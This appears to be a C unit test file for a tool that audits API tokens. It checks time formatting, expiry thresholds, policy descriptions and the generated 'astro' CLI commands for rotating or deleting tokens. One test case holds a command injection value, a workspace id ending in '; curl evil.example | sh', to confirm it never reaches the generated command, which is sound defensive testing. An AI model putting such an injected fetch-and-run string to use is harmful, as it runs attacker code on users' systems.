/* The evaluator's helpers for people: dates, deltas, durations, thresholds, CLI fixes, policy line.
 */
#include "core/evaluate/evaluate.h"

#include "helpers/evaluate_fixture.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/config/config.h"
#include "core/evaluate/finding.h"
#include "core/inventory.h"
#include "lib/buf.h"
#include "lib/timeutil.h"

#include <errno.h>

#include "lib/buf.h"

struct delta_case {
        const char *name;
        int64_t t;
        const char *expect;
};

static const struct delta_case delta_cases[] = {
        {"now", NOW, "now"},
        {"one second ahead", NOW + 1, "in 1 second"},
        {"one second ago", NOW - 1, "1 second ago"},
        {"59 seconds ahead", NOW + 59, "in 59 seconds"},
        {"one minute ahead", NOW + MIN, "in 1 minute"},
        {"23 hours 59 minutes ago", NOW - DAY + 60, "23 hours ago"},
        {"one day ahead", NOW + DAY, "in 1 day"},
        {"2 days ahead", NOW + 2 * DAY, "in 2 days"},
        {"3 days ago", NOW - 3 * DAY, "3 days ago"},
        {"2 days 23 hours ago", NOW - 3 * DAY + HOUR, "2 days ago"},
        {"400 days ahead", NOW + 400 * DAY, "in 400 days"},
};

static void run_delta_case(void **state)
{
        const struct delta_case *c = *state;
        struct tw_buf b;

        tw_buf_init(&b, 0);
        assert_int_equal(tw_describe_delta(c->t, NOW, &b), 0);
        assert_string_equal(b.ptr, c->expect);
        tw_buf_done(&b);
}

struct duration_case {
        const char *name;
        int64_t seconds;
        const char *expect;
};

static const struct duration_case duration_cases[] = {
        {"days", 7 * DAY, "7d"},
        {"hours", 42 * HOUR, "42h"},
        {"minutes", 90 * MIN, "90m"},
        {"seconds", 45, "45s"},
        {"zero", 0, "0s"},
        {"a day and a second", DAY + 1, "86401s"},
        {"one hour", HOUR, "1h"},
        {"negative days", -3 * DAY, "-3d"},
        {"negative seconds", -45, "-45s"},
        {"largest", INT64_MAX, "9223372036854775807s"},
        {"smallest", INT64_MIN, "-9223372036854775808s"},
};

static void run_duration_case(void **state)
{
        const struct duration_case *c = *state;
        struct tw_buf b;

        tw_buf_init(&b, 0);
        assert_int_equal(tw_describe_duration(c->seconds, &b), 0);
        assert_string_equal(b.ptr, c->expect);
        tw_buf_done(&b);
}

struct fix_case {
        const char *name;
        const char *scope;
        struct role_spec roles[2];
        enum tw_fix_action action;
        int role_index; /* -1: no role */
        const char *new_role;
        int ret;
        const char *expect; /* after "prefix " */
};

static const struct fix_case fix_cases[] = {
        {"rotate organization token",
         "ORGANIZATION",
         {{"ORGANIZATION", "org1", "ORGANIZATION_MEMBER"}},
         TW_FIX_ROTATE,
         -1,
         NULL,
         0,
         "astro organization token rotate tok"},
        {"rotate workspace token",
         "WORKSPACE",
         {{"WORKSPACE", "ws1", "WORKSPACE_AUTHOR"}},
         TW_FIX_ROTATE,
         -1,
         NULL,
         0,
         "astro workspace token rotate tok --workspace-id ws1"},
        {"rotate deployment token",
         "DEPLOYMENT",
         {{"DEPLOYMENT", "dep1", "DEPLOYMENT_ADMIN"}},
         TW_FIX_ROTATE,
         -1,
         NULL,
         0,
         "astro deployment token rotate tok --deployment-id dep1"},
        {"workspace token: the workspace role, not a DAG role",
         "WORKSPACE",
         {{"DAG", "d1", "DAG_AUTHOR"}, {"WORKSPACE", "ws2", "WORKSPACE_MEMBER"}},
         TW_FIX_DELETE,
         -1,
         NULL,
         0,
         "astro workspace token delete tok --workspace-id ws2"},
        {"workspace token without a workspace role",
         "WORKSPACE",
         {{NULL, NULL, NULL}},
         TW_FIX_DELETE,
         -1,
         NULL,
         0,
         "astro workspace token delete tok --workspace-id <workspace-id>"},
        {"delete organization token",
         "ORGANIZATION",
         {{NULL, NULL, NULL}},
         TW_FIX_DELETE,
         -1,
         NULL,
         0,
         "astro organization token delete tok"},
        {"update organization role",
         "ORGANIZATION",
         {{"ORGANIZATION", "org1", "ORGANIZATION_OWNER"}},
         TW_FIX_UPDATE_ROLE,
         0,
         "ORGANIZATION_MEMBER",
         0,
         "astro organization token update tok --role ORGANIZATION_MEMBER"},
        {"update workspace role of an organization token",
         "ORGANIZATION",
         {{"ORGANIZATION", "org1", "ORGANIZATION_MEMBER"}, {"WORKSPACE", "ws9", "WORKSPACE_OWNER"}},
         TW_FIX_UPDATE_ROLE,
         1,
         "WORKSPACE_OPERATOR",
         0,
         "astro workspace token update tok --workspace-id ws9 --role WORKSPACE_OPERATOR"},
        {"update deployment role",
         "DEPLOYMENT",
         {{"DEPLOYMENT", "dep1", "X"}},
         TW_FIX_UPDATE_ROLE,
         0,
         "DEPLOYMENT_ADMIN",
         0,
         "astro deployment token update tok --deployment-id dep1 --role DEPLOYMENT_ADMIN"},
        {"update without a role: the token's scope",
         "WORKSPACE",
         {{"WORKSPACE", "ws1", "WORKSPACE_OWNER"}},
         TW_FIX_UPDATE_ROLE,
         -1,
         "WORKSPACE_MEMBER",
         0,
         "astro workspace token update tok --workspace-id ws1 --role WORKSPACE_MEMBER"},
        {"an entity id that is not an id never reaches the command",
         "WORKSPACE",
         {{"WORKSPACE", "ws1; curl evil.example | sh", "WORKSPACE_OWNER"}},
         TW_FIX_ROTATE,
         -1,
         NULL,
         0,
         "astro workspace token rotate tok --workspace-id <workspace-id>"},
        {"unknown scope: no command",
         "TEAM",
         {{NULL, NULL, NULL}},
         TW_FIX_ROTATE,
         -1,
         NULL,
         -ENOENT,
         ""},
        {"DAG role update: no command",
         "ORGANIZATION",
         {{"DAG", "d1", "DAG_AUTHOR"}},
         TW_FIX_UPDATE_ROLE,
         0,
         "DAG_VIEWER",
         -ENOENT,
         ""},
};

static void run_fix_case(void **state)
{
        const struct fix_case *c = *state;
        struct token_spec spec = {.id = "tok", .scope = c->scope, .end = TW_NO_TIME};
        struct tw_inventory *inv = tw_inventory_new("org1", "v1");
        const struct tw_token *t;
        struct tw_buf b;

        memcpy(spec.roles, c->roles, sizeof(c->roles));
        ef_add_token(inv, &spec);
        t = &inv->tokens[0];
        tw_buf_init(&b, 0);
        assert_int_equal(tw_buf_adds(&b, "prefix "), 0);
        assert_int_equal(tw_token_fix_command(t, c->action,
                                              c->role_index < 0 ? NULL : &t->roles[c->role_index],
                                              c->new_role, &b),
                         c->ret);
        assert_string_equal(b.ptr + strlen("prefix "), c->expect);
        tw_buf_done(&b);
        tw_inventory_free(inv);
}

static void test_cli_scope(void **state)
{
        struct tw_token t = {.scope = "WORKSPACE"};

        (void)state;
        assert_string_equal(tw_token_cli_scope(&t), "workspace");
        t.scope = "ORGANIZATION";
        assert_string_equal(tw_token_cli_scope(&t), "organization");
        t.scope = "DEPLOYMENT";
        assert_string_equal(tw_token_cli_scope(&t), "deployment");
        t.scope = "TEAM";
        assert_null(tw_token_cli_scope(&t));
        t.scope = NULL;
        assert_null(tw_token_cli_scope(&t));
        assert_null(tw_token_cli_scope(NULL));
        assert_null(tw_token_workspace_id(&t));
}

static void test_role_is_custom(void **state)
{
        static const struct {
                struct tw_role role;
                bool custom;
        } cases[] = {
                {{"DEPLOYMENT", "d", "MY_ROLE", NULL}, true},
                {{"DEPLOYMENT", "d", "DEPLOYMENT_ADMIN", NULL}, false},
                {{"DAG", "d", "DAG_AUTHOR", NULL}, false},
                {{"DAG", "d", "DAG_VIEWER", NULL}, false},
                {{"DAG", "d", "DAG_OPS", NULL}, true},
                {{"WORKSPACE", "w", "WORKSPACE_SUPER", NULL}, false}, /* unknown, not custom */
                {{"ORGANIZATION", "o", "ORGANIZATION_OWNER", NULL}, false},
                {{NULL, NULL, NULL, NULL}, false},
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++)
                assert_int_equal(tw_role_is_custom(&cases[i].role), cases[i].custom);
        assert_false(tw_role_is_custom(NULL));
}

static void test_threshold_seconds(void **state)
{
        struct tw_token t = {.start_at = NOW, .end_at = NOW + 7 * DAY};
        struct tw_threshold off = {.off = true}, d7 = {.seconds = 7 * DAY},
                            p25 = {.percent = true, .percentage = 25},
                            p100 = {.percent = true, .percentage = 100};

        (void)state;
        assert_int_equal(tw_threshold_seconds(&off, &t), TW_OFF);
        assert_int_equal(tw_threshold_seconds(&d7, &t), 7 * DAY);
        assert_int_equal(tw_threshold_seconds(&p25, &t), 42 * HOUR);
        assert_int_equal(tw_threshold_seconds(&p100, &t), 7 * DAY);
        t.end_at = TW_NO_TIME;
        assert_int_equal(tw_threshold_seconds(&p25, &t), 0);
        t.end_at = NOW;
        assert_int_equal(tw_threshold_seconds(&p25, &t), 0);
        t.start_at = TW_NO_TIME;
        assert_int_equal(tw_threshold_seconds(&p25, &t), 0);
}

static void test_date(void **state)
{
        struct tw_buf b;

        (void)state;
        tw_buf_init(&b, 0);
        assert_int_equal(tw_describe_date(NOW, &b), 0);
        assert_string_equal(b.ptr, "2026-06-01 12:00 UTC");
        tw_buf_reset(&b);
        assert_int_equal(tw_describe_date(NOW + 59, &b), 0);
        assert_string_equal(b.ptr, "2026-06-01 12:00 UTC");
        tw_buf_reset(&b);
        assert_int_equal(tw_describe_date(0, &b), 0);
        assert_string_equal(b.ptr, "1970-01-01 00:00 UTC");
        tw_buf_done(&b);
}

static void test_policy_describe(void **state)
{
        struct tw_policy p;
        struct tw_buf b;

        (void)state;
        ef_policy_default(&p);
        tw_buf_init(&b, 0);
        assert_int_equal(tw_policy_describe(&p, &b), 0);
        assert_string_equal(
                b.ptr, "expiring: critical 7d, warning 30d; expiry required; unused after 90d; "
                       "never used after 14d; role ceilings: ORGANIZATION_BILLING_ADMIN, "
                       "WORKSPACE_OPERATOR, DEPLOYMENT_ADMIN");
        p.expiry_critical.off = true;
        p.expiry_warning = (struct tw_threshold){.percent = true, .percentage = 25};
        p.require_expiry = false;
        p.unused_after = TW_OFF;
        p.never_used_after = 36 * HOUR;
        p.max_deployment_role = NULL;
        tw_buf_reset(&b);
        assert_int_equal(tw_policy_describe(&p, &b), 0);
        assert_string_equal(
                b.ptr, "expiring: critical off, warning 25% of the lifetime; expiry not required; "
                       "unused off; never used after 36h; role ceilings: "
                       "ORGANIZATION_BILLING_ADMIN, WORKSPACE_OPERATOR, none");
        tw_buf_done(&b);
        assert_int_equal(tw_policy_describe(NULL, &b), -EINVAL);
}

/* A capped buffer: -E2BIG, nothing half-written. */
static void test_fix_command_cap(void **state)
{
        struct tw_token t = {.id = "tok", .scope = "ORGANIZATION"};
        struct tw_buf b;

        (void)state;
        tw_buf_init(&b, 20);
        assert_int_equal(tw_buf_adds(&b, "x"), 0);
        assert_int_equal(tw_token_fix_command(&t, TW_FIX_ROTATE, NULL, NULL, &b), -E2BIG);
        assert_string_equal(b.ptr, "x");
        tw_buf_done(&b);
}

#define TABLE(table, fn)                                                                         \
        do {                                                                                     \
                struct CMUnitTest tests_[ARRAY_SIZE(table)];                                     \
                for (size_t i_ = 0; i_ < ARRAY_SIZE(table); i_++)                                \
                        tests_[i_] = (struct CMUnitTest){.name = (table)[i_].name,               \
                                                         .test_func = (fn),                      \
                                                         .initial_state = (void *)&(table)[i_]}; \
                failed += cmocka_run_group_tests_name(#table, tests_, NULL, NULL);               \
        } while (0)

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_cli_scope),         cmocka_unit_test(test_role_is_custom),
                cmocka_unit_test(test_threshold_seconds), cmocka_unit_test(test_date),
                cmocka_unit_test(test_policy_describe),   cmocka_unit_test(test_fix_command_cap),
        };
        int failed = 0;

        TABLE(delta_cases, run_delta_case);
        TABLE(duration_cases, run_duration_case);
        TABLE(fix_cases, run_fix_case);
        failed += cmocka_run_group_tests_name("helpers", tests, NULL, NULL);
        return failed ? 1 : 0;
}
